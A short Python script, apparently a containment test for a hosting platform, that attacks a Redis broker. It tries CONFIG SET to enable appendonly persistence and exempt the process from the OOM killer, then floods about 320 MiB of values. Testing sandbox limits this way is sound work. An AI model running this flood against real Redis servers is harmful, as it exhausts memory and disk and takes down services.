# attack: the broker as a disk and memory bomb: CONFIG SET appendonly and oom-score-adj, then hundreds of MiB of values
# honest: 0 it never serves an app; the broker refuses to grow past its cap, and its files go with the run
# proof: ATTACK broker flood stopped
# brokers: both
import os

import redis

r = redis.Redis.from_url(os.environ["REDIS_URL"])
for name, value in (("appendonly", "yes"), ("oom-score-adj", "yes"), ("oom-score-adj-values", "-1000 -1000 -1000")):
    try:
        print(f"ATTACK broker CONFIG SET {name}: {r.config_set(name, value)}", flush=True)
    except redis.RedisError as error:
        print(f"ATTACK broker CONFIG SET {name} refused: {error}", flush=True)
chunk, written = b"x" * (1024 * 1024), 0
try:
    for number in range(320):
        r.set(f"attack:flood:{number}", chunk)
        written += 1
    print(f"ATTACK broker flood stopped at its own end: {written} MiB held", flush=True)
except redis.RedisError as error:
    print(f"ATTACK broker flood stopped after {written} MiB: {str(error)[:120]}", flush=True)
raise SystemExit("ATTACK broker: done; this submission serves no app")
